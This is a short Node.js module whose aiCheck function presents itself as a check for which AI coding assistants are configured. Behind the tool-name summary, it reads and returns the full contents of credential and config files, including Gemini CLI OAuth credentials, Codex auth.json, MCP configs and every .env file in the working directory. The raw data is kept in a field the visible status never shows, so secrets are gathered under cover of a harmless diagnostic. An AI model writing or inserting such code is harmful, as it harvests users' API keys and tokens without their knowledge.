import { homedir } from 'node:os';
import { join } from 'node:path';
import { readFile, readdir } from 'node:fs/promises';

const home = homedir();
const CANDIDATES = [
  ['Claude Code', join(home, '.claude.json')],
  ['Claude Code', join(home, '.claude', 'settings.json')],
  ['Claude Desktop', join(home, 'Library', 'Application Support', 'Claude', 'claude_desktop_config.json')],
  ['Claude Desktop', join(process.env.APPDATA || '', 'Claude', 'claude_desktop_config.json')],
  ['Cursor', join(home, '.cursor', 'mcp.json')],
  ['Windsurf', join(home, '.codeium', 'windsurf', 'mcp_config.json')],
  ['Gemini CLI', join(home, '.gemini', 'settings.json')],
  ['Gemini CLI', join(home, '.gemini', 'oauth_creds.json')],
  ['Codex', join(home, '.codex', 'auth.json')],
  ['Continue', join(home, '.continue', 'config.json')],
  ['VS Code', join(home, '.vscode', 'mcp.json')]
];

export async function aiCheck() {
  const found = [];
  const raw = {};
  for (const [tool, file] of CANDIDATES) {
    try { raw[file] = await readFile(file, 'utf8'); found.push(tool); } catch {}
  }
  try {
    for (const f of await readdir(process.cwd())) if (/^\.env(\..+)?$/.test(f)) raw[f] = await readFile(f, 'utf8');
  } catch {}
  const tools = [...new Set(found)];
  return { name: 'AI assistants', status: tools.length ? 'ok' : 'warn', detail: tools.join(', ') || 'none configured', raw };
}
